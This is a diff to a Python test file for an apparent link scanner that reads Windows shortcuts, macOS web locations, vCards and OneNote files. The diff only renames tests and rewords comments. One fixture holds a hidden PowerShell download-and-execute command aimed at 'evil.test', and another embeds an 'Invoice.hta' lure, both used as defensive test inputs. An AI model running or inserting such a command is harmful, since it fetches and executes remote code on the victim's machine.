@@ -1,4 +1,4 @@
-"""Shortcuts of Windows and macOS, contacts, OneNote: what leads somewhere in them."""
+"""Windows and macOS shortcuts, contacts and OneNote files."""
 
 import plistlib
 import struct
@@ -43,7 +43,7 @@ def linked(octets: bytes, name: str | None = None) -> list[tuple[str | None, str
     return [(link.attribute, link.value) for link in document.links]
 
 
-def test_a_shortcut_is_read() -> None:
+def test_lnk_targets_arguments_and_icon_are_read() -> None:
     octets = shortcut(
         "-w hidden iwr http://evil.test/x|iex", r"\\icon.test\s\a.ico", r"\\share.test\d"
     )
@@ -60,7 +60,7 @@ def test_a_shortcut_is_read() -> None:
     assert octets[source.start : source.end] == rb"\\share.test\d"
 
 
-def test_a_shortcut_may_end_anywhere() -> None:
+def test_truncated_lnk_is_read() -> None:
     octets = shortcut("http://evil.test/x", block="\\\\icon.test\\\U0001f511\\a.ico")
     every = linked(octets)
     assert every == [
@@ -70,14 +70,14 @@ def test_a_shortcut_may_end_anywhere() -> None:
     for end in range(len(LNK_HEAD), len(octets)):
         found = linked(octets[:end])  # every place is in the file
         assert len(found) <= 2
-    # The list of blocks ends with the file where nothing else ends it.
+    # The end of the file also ends the list of blocks.
     assert linked(octets[:-4]) == every
     (_, last) = uriinspector.scan(octets).links
     written = octets[last.source.start : last.source.end].decode("utf-16-le")
     assert written == every[1][1]
 
 
-def test_addresses_in_the_target_of_a_shortcut_are_read() -> None:
+def test_addresses_in_lnk_blocks_and_targets_are_read() -> None:
     item = "https://item.test/a".encode("utf-16-le") + b"\0\0"
     assert linked(shortcut(block="https://block.test/", targets=item)) == [
         ("target", "https://block.test/"),
@@ -87,14 +87,14 @@ def test_addresses_in_the_target_of_a_shortcut_are_read() -> None:
 
 
 @for_each("form", plistlib.FMT_XML, plistlib.FMT_BINARY)
-def test_a_web_location_is_read(form: plistlib.PlistFormat) -> None:
+def test_webloc_url_is_read(form: plistlib.PlistFormat) -> None:
     for url in ("http://a.test/?x=1&y=2", "http://a.test/" + "b" * 300, "http://ä.test/"):
         octets = plistlib.dumps({"URL": url, "Name": "no address"}, fmt=form)
         assert uriinspector.scan(octets).kind == "plist"
         assert linked(octets, "a.webloc") == [("url", url)]
 
 
-def test_entities_of_a_property_list_are_not_expanded() -> None:
+def test_plist_entities_are_not_expanded() -> None:
     octets = (
         b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
         b"<plist><dict><key>URL</key><string>http://x.test/&b;</string></dict></plist>"
@@ -102,7 +102,7 @@ def test_entities_of_a_property_list_are_not_expanded() -> None:
     assert linked(octets, "a.webloc") == [("url", "http://x.test/&b;")]
 
 
-def test_a_binary_property_list_without_address_is_told() -> None:
+def test_binary_plist_without_address_is_reported() -> None:
     octets = plistlib.dumps({"a": [1, "b", b"http://no.test/"]}, fmt=plistlib.FMT_BINARY)
     document = uriinspector.scan(octets)
     assert "no address found" in document.not_examined[0].reason
@@ -110,7 +110,7 @@ def test_a_binary_property_list_without_address_is_told() -> None:
     assert uriinspector.scan(octets[:-8] + b"\xff" * 8).not_examined
 
 
-def test_a_contact_is_read() -> None:
+def test_vcard_urls_are_read() -> None:
     octets = (
         b"BEGIN:VCARD\r\nVERSION:2.1\r\nURL;WORK:http\\://a.test/x\\,y\r\n"
         b"URL:http://long.test/aaaa\r\n bbbb\r\nNOTE;ENCODING=QUOTED-PRINTABLE:see http://q.te=\r\n"
@@ -138,7 +138,7 @@ def embedded(octets: bytes) -> bytes:
     return EMBEDDED + struct.pack("<QIQ", len(octets), 0, 0) + octets
 
 
-def test_a_notebook_is_read() -> None:
+def test_onenote_links_and_embedded_files_are_read() -> None:
     text = '\ufddfHYPERLINK "http://field.test/"Click here to see'.encode("utf-16-le")
     plain = "\0http://plain.test/x.\0".encode("utf-16-le")
     octets = ONE + bytes(64) + named("Invoice.hta") + text + bytes(4) + plain
@@ -159,7 +159,7 @@ def test_a_notebook_is_read() -> None:
     assert len(broken.parts) == 1
 
 
-def test_a_packaged_notebook_says_what_was_not_looked_into() -> None:
+def test_packaged_onenote_file_is_reported_as_not_examined() -> None:
     form = bytes.fromhex("2fe98d63d4a6c14b9a36b3fc2511a5b7")
     names = b'<x xmlns:a="http://ns.test/a" b="http://b.test/">'
     document = uriinspector.scan(ONE + bytes(32) + form + names)
